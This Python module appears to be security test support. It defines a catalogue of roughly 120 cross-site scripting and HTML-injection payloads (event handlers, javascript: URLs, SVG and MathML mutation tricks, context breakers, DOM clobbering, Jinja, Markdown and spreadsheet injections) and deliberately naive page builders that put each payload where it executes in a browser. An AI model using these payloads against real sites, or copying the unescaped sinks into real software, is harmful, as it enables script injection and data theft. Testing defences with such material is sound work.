r"""Texts that a naive page runs, each with a plain word by which it is known to be still there.

In a payload RUN is a call that is counted, URL an address of the witness, MARK the plain word. `at`
is where a naive page puts it (`PLACES`), `does` what then happens in Chromium: it runs, requests,
or clobbers a name of the page. Those that do nothing there are for another reader of the same text:
a Jinja template, a Markdown cell, JupyterLab's command linker, a spreadsheet, a terminal.
"""

from __future__ import annotations

import html
import json
from collections.abc import Callable
from dataclasses import dataclass

import jinja2
import mistune

RUNS, REQUESTS, CLOBBERS = "runs", "requests", "clobbers"
BOTH = f"{RUNS} {REQUESTS}"
CLOBBERS_AND_REQUESTS = f"{CLOBBERS} {REQUESTS}"
NOTHING = ""


@dataclass(frozen=True, slots=True)
class Payload:
    """A hostile text."""

    number: int
    name: str
    at: str
    does: str
    text: str

    @property
    def mark(self) -> str:
        """The plain word in it."""
        return f"mark{self.number:03}"

    def aimed(self, witness: str) -> str:
        """The text, with its requests going to an address."""
        return (
            self.text.replace("RUN", f"__ran({self.number})")
            .replace("URL", f"{witness}/{self.number}")
            .replace("NAME", f"clobbered{self.number}")
            .replace("MARK", self.mark)
        )

    def naive(self, witness: str) -> str:
        """A page that puts it where it does harm."""
        return PLACES[self.at](self.aimed(witness))


def _in(page: str) -> Callable[[str], str]:
    return lambda text: page.replace("%", text)


def _by_script(statement: str) -> Callable[[str], str]:
    """A page whose own script has the text as a string."""

    def page(text: str) -> str:
        quoted = json.dumps(text).replace("<", "\\u003c")
        return f"<body><script>const text = {quoted}; {statement}</script>"

    return page


def _escaped_for_script(text: str) -> str:
    quoted = text.replace('"', '\\"')
    return f'<body><script>var said = "{quoted}";</script>'


def _by_jinja(text: str) -> str:
    return jinja2.Template(f"<body>{text}", autoescape=False).render()


def _by_markdown(text: str) -> str:
    return f"<body>{mistune.create_markdown(escape=False)(text)}"


PLACES: dict[str, Callable[[str], str]] = {
    "body": _in("<body>%<script>var own = 1</script></body>"),
    "innerHTML": _by_script("document.body.innerHTML = text"),
    "innerHTML twice": _by_script(
        "document.body.innerHTML = text; document.body.innerHTML = document.body.innerHTML"
    ),
    "innerHTML of textContent": _by_script(
        "document.body.innerHTML = text; document.body.innerHTML = document.body.textContent"
    ),
    "double quotes": _in('<body><p title="%">said</p>'),
    "single quotes": _in("<body><p title='%'>said</p>"),
    "no quotes": _in("<body><p title=%>said</p>"),
    "link": _in('<body><a href="%">said</a>'),
    "frame": _in('<body><iframe src="%"></iframe>'),
    "srcdoc": _in('<body><iframe srcdoc="%"></iframe>'),
    "inside a frame": _in("<body><iframe>%</iframe>"),
    "handler": _in("<body><button onclick=\"void('%')\">said</button>"),
    "style": _in('<style>p { content: "%" }</style><p>said</p>'),
    "style attribute": _in('<body><p style="background: %">said</p>'),
    "title": _in("<title>%</title>"),
    "textarea": _in("<body><textarea>%</textarea>"),
    "xmp": _in("<body><xmp>%</xmp>"),
    "noscript": _in("<body><noscript>%</noscript>"),
    "comment": _in("<body><!--%-->"),
    "CDATA": _in("<body><svg><![CDATA[%]]></svg>"),
    "script": _in('<body><script>var said = "%";</script>'),
    "escaped for script": _escaped_for_script,
    "template literal": _in("<body><script>var said = `%`;</script>"),
    "comment of script": _in("<body><script>// %\n</script>"),
    "data of script": _in('<body><script type="application/json">"%"</script>'),
    "Jinja": _by_jinja,
    "Markdown": _by_markdown,
}
"""Where a naive page puts a text."""

_TEXTS = [
    # Scripts.
    ("script", "body", RUNS, "<script>RUN</script>MARK"),
    ("script from afar", "body", BOTH, "<script src=URL.js></script>MARK"),
    ("script in odd case", "body", RUNS, "<ScRiPt/x y>RUN</sCrIpT\t>MARK"),
    ("half-open script", "body", RUNS, "<script>RUN//MARK"),
    ("module", "body", RUNS, "<script type=module>RUN</script>MARK"),
    ("import map", "body", BOTH,
     '<script type=importmap>{"imports":{"x":"URL.js"}}</script>'
     '<script type=module>import "x"</script>MARK'),
    ("declarative shadow root", "body", RUNS,
     "<p><template shadowrootmode=open><img src=x: onerror=RUN></template>MARK</p>"),
    # Event handlers.
    ("img onerror", "innerHTML", RUNS, "<img src=x: onerror=RUN>MARK"),
    ("half-open img", "body", RUNS, "<img src=x: onerror=RUN MARK"),
    ("img without spaces", "innerHTML", RUNS, '<img/src="x:"onerror="RUN">MARK'),
    ("video onerror", "innerHTML", RUNS, "<video src=x: onerror=RUN></video>MARK"),
    ("source onerror", "innerHTML", RUNS, "<video><source src=x: onerror=RUN></video>MARK"),
    ("body onload", "body", RUNS, "<body onload=RUN>MARK"),
    ("iframe onload", "innerHTML", RUNS, "<iframe onload=RUN></iframe>MARK"),
    ("style onload", "innerHTML", RUNS, "<style onload=RUN></style>MARK"),
    ("details ontoggle", "innerHTML", RUNS, "<details open ontoggle=RUN>MARK</details>"),
    ("p onmouseover", "innerHTML", RUNS, "<p onmouseover=RUN>MARK</p>"),
    ("x onpointerenter autofocus onfocus", "innerHTML", RUNS,
     "<x onpointerenter=RUN tabindex=0 autofocus onfocus=RUN>MARK</x>"),
    ("input onfocus", "innerHTML", RUNS, '<input autofocus onfocus=RUN value="MARK">'),
    ("button onclick", "innerHTML", RUNS, "<button onclick=RUN>MARK</button>"),
    ("p onanimationstart", "body", RUNS,
     '<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart=RUN>MARK</p>'),
    ("popover", "innerHTML", RUNS,
     "<button popovertarget=p>MARK</button><p popover id=p onbeforetoggle=RUN>MARK</p>"),
    ("content-visibility", "innerHTML", RUNS,
     "<p style=content-visibility:auto oncontentvisibilityautostatechange=RUN>MARK</p>"),
    ("marquee onstart", "innerHTML", NOTHING, "<marquee onstart=RUN>MARK</marquee>"),
    # Addresses that are scripts.
    ("javascript link", "innerHTML", RUNS, '<a href="javascript:RUN">MARK</a>'),
    ("javascript link in entities", "innerHTML", RUNS,
     '<a href="&#106;avascript&colon;RUN">MARK</a>'),
    ("javascript link with a tab", "innerHTML", RUNS, '<a href="java&Tab;script:RUN">MARK</a>'),
    ("javascript", "link", RUNS, "javascript:RUN//MARK"),
    ("javascript in odd case", "link", RUNS, " \x01JaVaScRiPt:RUN//MARK"),
    ("javascript over lines", "link", RUNS, "java\nscript:RUN//MARK"),
    ("javascript with a zero width joiner", "link", NOTHING, "java\u200dscript:RUN//MARK"),
    ("vbscript", "link", NOTHING, "vbscript:RUN//MARK"),
    ("data link", "link", RUNS, "data:text/html,<script>RUN</script>MARK"),
    ("data in a frame", "frame", RUNS, "data:text/html,<script>RUN</script>MARK"),
    ("javascript in a frame", "frame", RUNS, "javascript:RUN//MARK"),
    ("formaction", "innerHTML", RUNS,
     '<form><button formaction="javascript:RUN">MARK</button></form>'),
    ("form action", "innerHTML", RUNS,
     '<form action="javascript:RUN"><input type=submit value="MARK"></form>'),
    # SVG and MathML.
    ("svg onload", "body", RUNS, "<svg onload=RUN><text>MARK</text></svg>"),
    ("svg script", "body", RUNS, "<svg><script>RUN</script><text>MARK</text></svg>"),
    ("svg script from afar", "body", BOTH, "<svg><script href=URL.js /></svg>MARK"),
    ("svg animate onbegin", "innerHTML", RUNS,
     "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>MARK"),
    ("svg animate href", "innerHTML", RUNS,
     "<svg><a><animate attributeName=href values=javascript:RUN /><text y=9>MARK</text></a></svg>"),
    ("svg link", "innerHTML", RUNS,
     '<svg><a xlink:href="javascript:RUN"><text y=9>MARK</text></a></svg>'),
    ("svg foreignObject", "innerHTML", RUNS,
     "<svg><foreignObject><img src=x: onerror=RUN></foreignObject></svg>MARK"),
    ("svg use", "innerHTML", NOTHING,
     "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
     "<image href='x:' onerror='RUN'/></svg>#x\"/></svg>MARK"),
    ("svg image", "innerHTML", REQUESTS, "<svg><image href=URL /></svg>MARK"),
    ("svg feImage", "innerHTML", REQUESTS,
     "<svg width=9 height=9><filter id=f><feImage href=URL /></filter>"
     "<rect width=9 height=9 filter=url(#f) /></svg>MARK"),
    ("MathML in a table", "innerHTML", RUNS,
     "<math><mtext><table><mglyph></table><img src=x: onerror=RUN></mtext></math>MARK"),
    ("MathML link", "innerHTML", NOTHING,
     '<math href="javascript:RUN"><mtext>MARK</mtext></math>'),
    ("MathML that mutates", "innerHTML twice", NOTHING,
     '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: '
     'onerror=RUN&gt;">MARK'),
    # Frames, objects and what else fetches.
    ("iframe", "innerHTML", BOTH, "<iframe src=URL.html></iframe>MARK"),
    ("iframe javascript", "innerHTML", RUNS, '<iframe src="javascript:RUN"></iframe>MARK'),
    ("iframe srcdoc", "innerHTML", RUNS, '<iframe srcdoc="<script>RUN</script>"></iframe>MARK'),
    ("object", "innerHTML", BOTH, "<object data=URL.html></object>MARK"),
    ("embed", "innerHTML", BOTH, "<embed src=URL.html>MARK"),
    ("img", "innerHTML", REQUESTS, "<img src=URL alt=MARK>MARK"),
    ("srcset", "innerHTML", REQUESTS, '<img srcset="URL 1x, URL 2x">MARK'),
    ("picture", "innerHTML", REQUESTS, "<picture><source srcset=URL><img></picture>MARK"),
    ("poster", "innerHTML", REQUESTS, "<video poster=URL></video>MARK"),
    ("audio", "innerHTML", REQUESTS, "<audio src=URL autoplay></audio>MARK"),
    ("input image", "innerHTML", REQUESTS, "<input type=image src=URL>MARK"),
    ("background", "innerHTML", REQUESTS, "<table background=URL><tr><td>MARK</table>"),
    ("ping", "innerHTML", BOTH, '<a href="URL.html" ping="URL">MARK</a>'),
    ("form", "innerHTML", REQUESTS, "<form action=URL><button>MARK</button></form>"),
    ("meta refresh", "body", BOTH, '<meta http-equiv=refresh content="0;url=URL.html">MARK'),
    ("base", "body", REQUESTS, "<base href=URL/><img src=x>MARK"),
    ("stylesheet", "innerHTML", REQUESTS, "<link rel=stylesheet href=URL.css>MARK"),
    ("preload", "innerHTML", REQUESTS, "<link rel=preload as=image href=URL>MARK"),
    ("modulepreload", "innerHTML", REQUESTS, "<link rel=modulepreload href=URL.js>MARK"),
    ("preconnect", "innerHTML", NOTHING,
     "<link rel=dns-prefetch href=URL><link rel=preconnect href=URL>MARK"),
    # Styles.
    ("style", "innerHTML", REQUESTS, '<p style="background:url(URL)">MARK</p>'),
    ("import in style", "innerHTML", REQUESTS, '<style>@import "URL.css";</style>MARK'),
    ("url in style", "style attribute", REQUESTS, "url(URL) /*MARK*/"),
    ("expression in style", "style attribute", NOTHING, "expression(RUN) /*MARK*/"),
    ("breaker of a style's string", "style", REQUESTS, '"} p { background: url(URL) } /*MARK'),
    ("breaker of style", "style", RUNS, "</style><img src=x: onerror=RUN>MARK"),
    # Breakers of what a page puts around a text.
    ("breaker of title", "title", RUNS, "</title><script>RUN</script>MARK"),
    ("breaker of textarea", "textarea", RUNS, "</textarea><script>RUN</script>MARK"),
    ("breaker of xmp", "xmp", RUNS, "</xmp><script>RUN</script>MARK"),
    ("breaker of noscript", "noscript", RUNS,
     '<p title="</noscript><img src=x: onerror=RUN>">MARK'),
    ("breaker of iframe", "inside a frame", RUNS, "</iframe><script>RUN</script>MARK"),
    ("breaker of comment", "comment", RUNS, "--><img src=x: onerror=RUN>MARK"),
    ("breaker of comment with !", "comment", RUNS, "--!><script>RUN</script>MARK"),
    ("abrupt end of comment", "comment", RUNS, "><img src=x: onerror=RUN>MARK"),
    ("CDATA outside of SVG", "innerHTML", RUNS, "<![CDATA[><img src=x: onerror=RUN>MARK]]>"),
    ("breaker of CDATA", "CDATA", RUNS, "]]><img src=x: onerror=RUN>MARK"),
    ("breaker of script", "script", RUNS, "</script><script>RUN</script>MARK"),
    ("breaker of data", "data of script", RUNS, "</script><script>RUN</script>MARK"),
    ("breaker of a script's string", "script", RUNS, '"-RUN-"MARK'),
    ("backslash before a quote", "escaped for script", RUNS, '\\";RUN//MARK'),
    ("template literal", "template literal", RUNS, "${RUN}MARK"),
    ("line separator", "comment of script", RUNS, "x\u2028RUN//MARK"),
    ("paragraph separator", "comment of script", RUNS, "x\u2029RUN//MARK"),
    ("breaker of double quotes", "double quotes", RUNS, '" onpointerenter=RUN x="MARK'),
    ("breaker of single quotes", "single quotes", RUNS, "' tabindex=0 onfocus=RUN x='MARK"),
    ("breaker of no quotes", "no quotes", RUNS, "x onclick=RUN MARK"),
    ("backquotes", "no quotes", RUNS, "` onclick=RUN MARK `"),
    ("breaker of a handler", "handler", RUNS, "');RUN//MARK"),
    ("breaker of a handler in entities", "handler", RUNS, "&#39;-RUN-&#39;MARK"),
    ("escaped, and read as text", "innerHTML of textContent", RUNS,
     "&lt;img src=x: onerror=RUN&gt;MARK"),
    ("escaped once, for a srcdoc", "srcdoc", RUNS, "&lt;script&gt;RUN&lt;/script&gt;MARK"),
    # Names of the page.
    ("clobbered members", "innerHTML", CLOBBERS,
     "<form id=NAME name=getElementById><input name=attributes></form>"
     "<img name=querySelector>MARK"),
    ("clobbered global", "innerHTML", CLOBBERS_AND_REQUESTS,
     "<a id=NAME><a id=NAME name=url href=URL>MARK</a>"),
    ("clobbered by a frame", "innerHTML", CLOBBERS_AND_REQUESTS,
     "<iframe name=NAME srcdoc=\"<a id=config href='URL'>\"></iframe>MARK"),
    # What is odd to read, beside what runs.
    ("right to left", "innerHTML", RUNS, "\u202e<img src=x: onerror=RUN>\u2066MARK"),
    ("zero width in a tag", "body", NOTHING, "<\u200bscript>RUN</\ufeffscript>MARK"),
    ("null in a tag", "body", NOTHING, "<scr\0ipt>RUN</scr\0ipt>MARK"),
    ("full-width brackets", "body", NOTHING, "＜script＞RUN＜/script＞MARK"),
    ("plaintext", "innerHTML", NOTHING, "<plaintext><noframes><listing>MARK"),
    ("processing instruction", "innerHTML", NOTHING,
     '<?xml-stylesheet href="javascript:RUN"?><!DOCTYPE x [<!ENTITY e SYSTEM "URL">]>MARK &e;'),
    # For other readers of the text.
    ("command linker", "innerHTML", NOTHING,
     '<button data-commandlinker-command="help:open" '
     'data-commandlinker-args=\'{"url": "URL.html", "text": "MARK"}\'>MARK</button>'),
    ("Jinja", "Jinja", RUNS, r'{{ "\x3cimg src=x: onerror=RUN\x3e" }}MARK'),
    ("Jinja's globals", "Jinja", NOTHING, "{% if cycler.__init__.__globals__ %}MARK{% endif %}"),
    ("Markdown picture", "Markdown", REQUESTS, "![MARK](URL)"),
    ("Markdown link", "Markdown", NOTHING, "[MARK](javascript:RUN) <javascript:RUN>"),
    ("Markdown with HTML", "Markdown", RUNS, "**MARK** <img src=x: onerror=RUN>"),
    ("LaTeX", "innerHTML", NOTHING,
     r"$\href{javascript:RUN}{MARK}$ \(\style{background:url(URL)}\)"),
    ("Mermaid", "innerHTML", NOTHING, "```mermaid\ngraph TD; MARK-->b; click b call RUN\n```"),
    ("templates of scripts", "innerHTML", NOTHING,
     "{{constructor.constructor('RUN')()}} <%= RUN %> #{RUN} MARK"),
    ("spreadsheet", "innerHTML", NOTHING, '=HYPERLINK("URL","MARK")'),
    ("terminal", "innerHTML", NOTHING, "\x1b]8;;URL\x07MARK\x1b[31m"),
]  # fmt: skip

PAYLOADS = [Payload(number, *given) for number, given in enumerate(_TEXTS)]


def control(witness: str) -> str:
    """A page in which each payload stands in a frame of its own, where it does harm."""
    frames = (
        f'<iframe srcdoc="{html.escape(payload.naive(witness))}"></iframe>' for payload in PAYLOADS
    )
    return "<!DOCTYPE html><meta charset=utf-8><title>control</title>\n" + "\n".join(frames)
